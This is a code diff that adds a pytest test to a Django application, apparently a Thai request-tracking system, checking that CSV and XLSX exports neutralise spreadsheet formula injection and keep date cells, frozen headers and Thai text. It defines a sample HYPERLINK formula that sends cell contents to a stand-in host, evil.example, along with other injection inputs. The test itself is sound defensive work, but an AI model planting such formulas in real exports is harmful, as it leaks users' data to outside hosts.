@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 import re
 import uuid
+from typing import Any
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -323,3 +324,45 @@ def test_the_target_picker_lists_provinces_and_bureaus_in_thai_order(org: Org) -
     assert provinces == sorted(provinces, key=thai_key)
     assert provinces.index("เชียงราย") < provinces.index("อ่างทอง")
     assert bureaus == sorted(bureaus, key=thai_key)
+
+
+EVIL_SUBJECT = '=HYPERLINK("https://evil.example/?leak="&A1,"x")'
+
+
+def test_the_request_exports_hold_no_formula_and_typed_cells(org: Org) -> None:
+    """Issue 11 item 9: a subject typed as a formula is text in both files; the XLSX has date cells, the
+    header frozen and a filter; a Thai file has no English."""
+    import csv
+    import datetime
+
+    for subject in (EVIL_SUBJECT, "-2+3", "@SUM(A1)", "+cmd", "ขอหารือ"):
+        sent_request(org, subject=subject)
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    for user, name in ((org.officer, "mine"), (org.director, "province"), (org.central, "all")):
+        client = client_for(user)
+        response = client.get(reverse("requests:export", args=["csv"]) + f"?list={name}")
+        assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        assert len(rows) == 1 + 5
+        assert not [value for row in rows for value in row if value.startswith(starts)]
+        assert f"'{EVIL_SUBJECT}" in [row[1] for row in rows]
+        # Apart from what was typed (the subject), a Thai file has no English.
+        assert not [v for row in rows for v in row[:1] + row[2:] if re.search("[A-Za-z]", v)]
+
+        response = client.get(reverse("requests:export", args=["xlsx"]) + f"?list={name}")
+        sheet: Any = load_workbook(io.BytesIO(response.content)).active
+        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:N{sheet.max_row}"
+        assert sheet.max_row == 1 + 5
+        assert all(sheet.column_dimensions[c.column_letter].width >= 8 for c in sheet[1])
+        for row in sheet.iter_rows(min_row=2):
+            assert all(cell.data_type != "f" for cell in row)
+            typed = row[1]
+            assert typed.data_type == "s" and typed.quotePrefix == typed.value.startswith(starts)
+            sent = row[10]
+            assert sent.is_date and isinstance(sent.value, datetime.datetime)
+            assert sent.number_format.startswith("[$-th-TH,107]")
+            others = row[:1] + row[2:]
+            assert not [
+                c.value for c in others if isinstance(c.value, str) and re.search("[A-Za-z]", c.value)
+            ]
+        assert EVIL_SUBJECT in [row[1].value for row in sheet.iter_rows(min_row=2)]
